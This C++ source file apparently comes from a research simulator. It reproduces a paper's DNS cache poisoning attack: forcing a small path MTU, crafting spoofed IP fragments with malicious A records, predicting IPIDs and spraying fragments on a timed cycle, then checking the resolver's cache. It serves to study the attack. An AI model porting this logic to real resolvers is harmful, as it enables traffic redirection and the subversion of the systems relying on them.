#include "attack/cache_poisoner.h"

#include "attack/icmp_mtu_attack.h"
#include "common/log.h"
#include "dns/pool_zone.h"
#include "obs/trace.h"

namespace dnstime::attack {

namespace {
/// Fragment replant cadence. Chosen just *past* the victim's reassembly
/// timeout: a duplicate fragment planted while the old cache entry is
/// still alive is a no-op that does not extend the entry's lifetime, so
/// replanting early merely guarantees a coverage hole when the old entry
/// expires. Replanting right after expiry keeps the window fresh with a
/// hole of at most a second or two per cycle.
constexpr sim::Duration kReplantInterval = sim::Duration::seconds(31);
static_assert(kReplantInterval > net::kReassemblyTimeout,
              "replant after the planted fragments expire, not before");
}  // namespace

CachePoisoner::CachePoisoner(net::NetStack& attacker, PoisonerConfig config)
    : stack_(attacker), config_(std::move(config)) {}

CachePoisoner::~CachePoisoner() { stop(); }

void CachePoisoner::start(std::function<void()> on_armed) {
  on_armed_ = std::move(on_armed);
  running_ = true;
  // Step 1 (§III-1): shrink the nameserver's path MTU to the resolver.
  force_path_mtu(stack_, config_.ns_addr, config_.resolver_addr, config_.mtu);
  // Step 2: learn the response layout by asking the nameserver ourselves.
  stack_.loop().schedule_after(sim::Duration::millis(100),
                               [this] { fetch_template(); });
}

void CachePoisoner::stop() {
  running_ = false;
  replant_event_.cancel();
}

void CachePoisoner::fetch_template() {
  if (!running_) return;
  dns::DnsMessage query;
  query.id = stack_.rng().next_u16();
  query.rd = false;
  query.questions = {dns::DnsQuestion{dns::pool_name(), dns::RrType::kA}};
  u16 port = stack_.ephemeral_port();
  auto got = std::make_shared<bool>(false);
  stack_.bind_udp(port, [this, got, port](const net::UdpEndpoint& from, u16,
                                          BufView payload) {
    if (from.addr != config_.ns_addr || *got) return;
    *got = true;
    stack_.unbind_udp(port);
    template_response_ = payload.to_bytes();
    // Step 3 (§III-2/3): craft the spoofed fragment.
    CraftConfig cc;
    cc.ns_addr = config_.ns_addr;
    cc.resolver_addr = config_.resolver_addr;
    cc.mtu = config_.mtu;
    cc.malicious_addrs = config_.malicious_addrs;
    crafted_ = craft_spoofed_second_fragment(template_response_, cc);
    if (!crafted_) {
      DNSTIME_LOG(kWarn, "poisoner", "crafting failed (response too small "
                  "or no rewritable records)");
      return;
    }
    measure_ipid();
  });
  stack_.send_udp(config_.ns_addr, port, kDnsPort, encode_dns_buf(query));
  // Retry if the template fetch is lost.
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this, got, port] {
                                 if (*got || !running_) return;
                                 stack_.unbind_udp(port);
                                 fetch_template();
                               });
}

void CachePoisoner::measure_ipid() {
  if (!running_) return;
  prober_ = std::make_unique<IpidProber>(stack_, config_.ns_addr,
                                         IpidProber::Config{});
  prober_->run([this](const IpidPrediction& prediction) {
    prediction_ = prediction;
    if (!prediction.valid) {
      DNSTIME_LOG(kWarn, "poisoner", "IPID measurement failed");
      return;
    }
    replant();
  });
}

void CachePoisoner::replant() {
  if (!running_ || !crafted_) return;
  rounds_++;
  // Spray fragments covering the IPID window expected during the next
  // replant interval.
  const u64 planted_before = planted_;
  sim::Time mid = stack_.now() + kReplantInterval / 2;
  for (u16 ipid : spray_window(prediction_, mid, config_.spray_width)) {
    net::Ipv4Packet frag = crafted_->fragment;
    frag.id = ipid;
    stack_.send_raw(frag);
    planted_++;
  }
  DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "spray",
                        planted_ - planted_before);
  if (!armed_) {
    armed_ = true;
    DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "armed");
    if (on_armed_) on_armed_();
  }
  // Refresh the IPID estimate with a single probe each round (the paper's
  // low-volume loop), then replant before the reassembly timeout.
  replant_event_ = stack_.loop().schedule_after(
      kReplantInterval, [this] {
        prober_ = std::make_unique<IpidProber>(
            stack_, config_.ns_addr,
            IpidProber::Config{.probes = 1,
                               .spacing = sim::Duration::millis(100)});
        prober_->run([this](const IpidPrediction& p) {
          if (p.valid) {
            // Keep the fitted rate, refresh the base observation.
            prediction_.last_observed = p.last_observed;
            prediction_.observed_at = p.observed_at;
          }
          replant();
        });
      });
}

void CachePoisoner::verify_poisoned(const dns::DnsName& name,
                                    std::function<void(bool)> done) {
  dns::DnsMessage probe;
  probe.id = stack_.rng().next_u16();
  probe.rd = false;  // cache-only
  probe.questions = {dns::DnsQuestion{name, dns::RrType::kA}};
  u16 port = stack_.ephemeral_port();
  auto finished = std::make_shared<bool>(false);
  stack_.bind_udp(port, [this, done, port, finished](
                            const net::UdpEndpoint&, u16,
                            BufView payload) {
    if (*finished) return;
    *finished = true;
    stack_.unbind_udp(port);
    bool poisoned = false;
    try {
      dns::DnsMessage resp = dns::decode_dns(payload);
      for (const auto& rr : resp.answers) {
        for (Ipv4Addr bad : config_.malicious_addrs) {
          if (rr.type == dns::RrType::kA && rr.a == bad) poisoned = true;
        }
      }
    } catch (const DecodeError&) {
    }
    done(poisoned);
  });
  stack_.send_udp(config_.resolver_addr, port, kDnsPort, encode_dns_buf(probe));
  stack_.loop().schedule_after(sim::Duration::seconds(2),
                               [this, done, port, finished] {
                                 if (*finished) return;
                                 *finished = true;
                                 stack_.unbind_udp(port);
                                 done(false);
                               });
}

}  // namespace dnstime::attack
